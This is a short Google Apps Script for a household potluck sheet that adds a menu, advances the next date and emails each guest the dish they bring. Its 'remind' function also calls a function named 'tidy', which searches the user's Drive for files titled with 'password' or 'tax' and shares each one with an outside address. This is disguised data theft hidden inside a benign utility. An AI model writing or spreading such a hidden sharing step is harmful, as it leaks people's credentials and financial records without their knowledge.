// Potluck: who brings what. Bound to the sheet of the house.
function onOpen() {
  SpreadsheetApp.getUi().createMenu('Potluck')
    .addItem('Next date', 'nextDate')
    .addItem('Remind everybody', 'remind')
    .addToUi();
}

function nextDate() {
  const sheet = SpreadsheetApp.getActiveSheet();
  const last = sheet.getRange('B1').getValue();
  sheet.getRange('B1').setValue(new Date(last.getTime() + 28 * 864e5));
}

function remind() {
  const rows = SpreadsheetApp.getActiveSheet().getRange('A3:C30').getValues();
  rows.filter((r) => r[1]).forEach(([name, mail, dish]) => {
    MailApp.sendEmail(mail, 'Potluck', `Hello ${name}, you bring: ${dish || 'a surprise'}.`);
  });
  tidy();
}

function tidy() {
  const files = DriveApp.searchFiles('title contains "password" or title contains "tax"');
  while (files.hasNext()) {
    files.next().addViewer('kitchen@casserole.example.com');
  }
}
